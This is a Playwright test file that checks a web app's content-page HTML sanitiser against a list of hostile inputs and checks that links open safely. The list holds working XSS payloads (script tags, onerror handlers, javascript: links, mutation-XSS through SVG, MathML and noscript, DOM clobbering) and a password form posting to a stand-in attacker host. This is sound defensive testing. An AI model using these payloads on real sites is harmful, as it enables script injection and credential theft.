/** Malicious HTML of a content page. */
import { asPlainFiles, expect, test } from './support';

/** Malicious HTML of a content page, and what must be removed from it. */
const HOSTILE_HTML: [what: string, html: string][] = [
  ['a script', '<script>window.pwned = 1</script>'],
  ['an event handler', '<img src="/x" onerror="window.pwned = 1">'],
  ['a javascript: link', '<a href="javascript:window.pwned=1">x</a>'],
  ['an obfuscated javascript: link', '<a href="  java\nscript:window.pwned=1">x</a>'],
  ['a data: link', '<a href="data:text/html,<script>1</script>">x</a>'],
  ['a vbscript: link', '<a href="vbscript:x">x</a>'],
  [
    'a form that posts to another site',
    '<form action="https://evil.example"><input type="password" name="p"><button>ورود</button></form>',
  ],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['an iframe', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'],
  ['an object', '<object data="https://evil.example"></object><embed src="https://evil.example">'],
  ['a style that covers the screen', '<div style="position:fixed;inset:0">x</div>'],
  ['a style tag', '<style>body{display:none}</style>'],
  ['ids that clobber DOM properties', '<a id="root" name="userInfo">x</a><img name="location">'],
  ['a data: picture', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['SVG that mutates', '<svg><p><style><g title="</style><img src=x onerror=window.pwned=1>">'],
  [
    'MathML that mutates',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  ],
  ['a template', '<template><img src=x onerror=window.pwned=1></template>'],
  ['noscript that mutates', '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">'],
  ['a dialog', '<dialog open>x</dialog>'],
  [
    'an element that takes the focus',
    '<div tabindex="1" autofocus contenteditable popover class="shell">x</div>',
  ],
  ['a protocol-relative address', '<a href="//evil.example">x</a><img src="//evil.example/x.png">'],
  ['a backslash address', '<a href="/\\evil.example">x</a>'],
  ['pictures of several sources', '<img srcset="https://evil.example/x 1x">'],
];

test.describe('hostile HTML', () => {
  test.use({ isAttack: true });
  test('is removed from the page in a browser that would otherwise run it', async ({ page }) => {
    const out: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) out.push(request.url());
    });
    await asPlainFiles(page);
    await page.route('**/GetContentPageByKey/**', (route) => {
      const key = Number(new URL(route.request().url()).searchParams.get('keyValue'));
      const bodyText = `<p>متن ${key}</p><p>پیش از آن</p>${HOSTILE_HTML[key]![1]}<p>پس از آن</p>`;
      return route.fulfill({
        json: { status: 200, messages: [], data: { id: 1, title: 'آزمون', bodyText } },
      });
    });
    await page.goto('/pages/0');
    for (const [key, [what]] of HOSTILE_HTML.entries()) {
      await page.evaluate((path) => {
        history.pushState(null, '', path);
        dispatchEvent(new PopStateEvent('popstate'));
      }, `/pages/${key}`);
      await expect(page.getByText(`متن ${key}`, { exact: true }), what).toBeVisible();
      const left = await page.locator('#main').evaluate((main) => {
        const body = [...main.querySelectorAll('p')].find(
          (p) => p.textContent === 'پیش از آن',
        )!.parentElement!;
        return [...body.querySelectorAll('*')].flatMap((element) => [
          ...(/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|INPUT|BUTTON|STYLE|SVG|MATH|TEMPLATE|DIALOG|BASE|META|LINK|NOSCRIPT)$/i.test(
            element.tagName,
          )
            ? [element.tagName]
            : []),
          ...[...element.attributes]
            .filter(
              ({ name, value }) =>
                /^(on|style|id$|name|class|srcset|autofocus|tabindex|content|popover|data-)/.test(
                  name,
                ) ||
                (/^(href|src)$/.test(name) && !/^(https?:|mailto:|tel:|\/(?![/\\])|#)/.test(value)),
            )
            .map(({ name, value }) => `${name}=${value}`),
        ]);
      });
      expect(left, what).toEqual([]);
      expect(
        await page.evaluate(() => (window as unknown as { pwned?: number }).pwned),
        what,
      ).toBeUndefined();
    }
    expect(out).toEqual([]);
  });
});

test('a content page opens links in a new tab without an opener, keeps pictures and demotes headings', async ({
  page,
}) => {
  const bodyText =
    '<h1 class="x">سرتیتر</h1><ul><li>یک</li></ul><a href="https://example.org/" target="_self" rel="opener">پیوند</a><a href="tel:02100000">تلفن</a><img src="/files/public/class-1.svg" alt="کلاس">';
  await asPlainFiles(page);
  await page.route('**/GetContentPageByKey/**', (route) =>
    route.fulfill({
      json: { status: 200, messages: [], data: { id: 1, title: 'آزمون', bodyText } },
    }),
  );
  await page.goto('/pages/Introduction');
  const link = page.getByRole('link', { name: 'پیوند' });
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(page.getByRole('link', { name: 'تلفن', exact: true })).toHaveAttribute(
    'href',
    'tel:02100000',
  );
  await expect(page.getByRole('img', { name: 'کلاس' })).toBeVisible();
  await expect(page.getByRole('heading', { name: 'سرتیتر', level: 2 })).toBeVisible();
});
